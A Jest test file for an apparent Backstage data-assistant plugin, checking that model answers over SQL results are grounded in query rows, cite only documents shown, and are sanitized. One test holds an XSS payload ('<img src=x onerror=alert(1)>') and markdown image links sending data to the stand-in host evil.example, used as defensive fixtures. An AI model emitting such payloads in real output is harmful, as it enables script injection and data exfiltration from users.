import { TestDatabases } from '@backstage/backend-test-utils';
import { modelReplies } from '@cairn/backstage-plugin-data-assistant-node/testUtils';
import { AgentApi, PORTAL, told } from './__testUtils__/AgentApi';
import { RADIO } from './__testUtils__/radioCluster';
import {
  answer,
  BY_DAY,
  LONG_PLAYS,
  runSql,
} from './__testUtils__/radioReplies';

const { call } = modelReplies;

jest.setTimeout(60_000);

const databases = TestDatabases.create({ ids: ['SQLITE_3', 'POSTGRES_15'] });

describe.each(databases.eachSupportedId())(
  'What a model answers is checked, %s',
  databaseId => {
    let api: AgentApi;

    beforeAll(async () => {
      api = await AgentApi.start(await databases.init(databaseId));
    });

    afterAll(() => api.stop());

    it('sends an answer back whose number stands in no row', async () => {
      api.play([
        runSql(LONG_PLAYS),
        answer({ sentence: 'There were 17 long plays.' }),
        answer(),
      ]);
      const response = await api.ask('How many long plays were there?');
      expect(told(api.requests[2])).toContain(
        'No row of the named queries holds "17"',
      );
      expect(response).toMatchObject({
        tier: 'grounded',
        sentence: 'There were 16 long plays.',
      });
      expect(response).not.toHaveProperty('unbacked');
    });

    it('marks a number that stands in no row when it comes again', async () => {
      const wrong = answer({ sentence: 'There were 17 long plays.' });
      api.play([runSql(LONG_PLAYS), wrong, wrong]);
      const response = await api.ask('How many long plays were there?');
      expect(response).toMatchObject({
        tier: 'grounded',
        sentence: 'There were 17 long plays.',
        rows: [[16]],
        unbacked: ['17'],
      });
      expect(response).not.toHaveProperty('confidence');
    });

    it('does not show numbers that no query is behind', async () => {
      const made = call('answer', {
        sentence: 'There were 99 long plays.',
        citations: ['radio/terms'],
        confidence: 1,
      });
      api.play([made, made]);
      const response = await api.ask('How many long plays were there?');
      expect(told(api.requests[1])).toContain(
        'names no query whose rows hold it',
      );
      expect(response).toMatchObject({ tier: 'uncovered' });
      expect(JSON.stringify(response)).not.toContain('99 long');
    });

    it('answers without a query what the context alone says', async () => {
      api.play([
        call('answer', {
          sentence:
            'A play of more than a minute is long, by the terms of radio.',
          citations: ['[radio/terms]'],
          confidence: 0.8,
        }),
      ]);
      const response = await api.ask('When is a play a long play?');
      expect(response).toMatchObject({
        tier: 'grounded',
        cluster: RADIO,
        sources: [{ id: RADIO }, { kind: 'doc', id: 'radio/terms' }],
      });
      expect(response).not.toHaveProperty('sql');
      expect(response).not.toHaveProperty('receiptId');
    });

    it('does not list what was never shown, and sends it back once', async () => {
      const cites = answer({ citations: ['radio/terms', 'radio/secret-plan'] });
      api.play([runSql(LONG_PLAYS), cites, cites]);
      const response = await api.ask('How many long plays were there?');
      expect(told(api.requests[2])).toContain(
        'never shown "radio/secret-plan"',
      );
      expect(response.sources?.map(({ id }) => id)).toEqual([
        RADIO,
        'radio/terms',
        'resource:default/radio-plays',
      ]);
    });

    it('draws what the model wishes only where the columns allow it', async () => {
      const wish = (chart: object) =>
        answer({ sentence: 'The plays by day are in the table.', chart });
      api.play([runSql(BY_DAY), wish({ kind: 'bar', x: 'day', y: ['plays'] })]);
      expect(
        await api.ask('How many plays were there on each day?'),
      ).toMatchObject({ chart: { kind: 'bar', x: 'day', y: ['plays'] } });
      api.play([
        runSql(BY_DAY),
        wish({ kind: 'bar', x: '<script>', y: ['nothing'] }),
      ]);
      expect(
        await api.ask('How many plays were there on each day?'),
      ).toMatchObject({ chart: { kind: 'line', x: 'day', y: ['plays'] } });
    });

    it('shows no HTML, image or foreign link of the model', async () => {
      api.play([
        runSql(LONG_PLAYS),
        answer({
          sentence: `16 <img src=x onerror=alert(1)>![x](https://evil.example/?q=16) [a](https://evil.example) [b](${PORTAL}/catalog)`,
          assumptions: ['![x](https://evil.example/?q=1)'],
        }),
      ]);
      const response = await api.ask('How many long plays were there?');
      expect(JSON.stringify(response)).not.toContain('evil.example');
      expect(response.sentence).toContain(`[b](${PORTAL}/catalog)`);
      expect(response.sentence).not.toContain('<img');
    });

    it('looks again at an empty result before it answers so', async () => {
      const none = `${LONG_PLAYS.replace(
        'count(*) AS long_plays',
        'day',
      )} AND country = 'XX'`;
      const says = answer({ sentence: 'There were none.' });
      api.play([runSql(none), says, says]);
      const response = await api.ask('Which days had long plays in Nowhere?');
      expect(told(api.requests[2])).toMatch(/q1 is suspicious/);
      expect(response).toMatchObject({
        tier: 'grounded',
        sentence: 'There were none.',
        rows: [],
      });
    });
  },
);
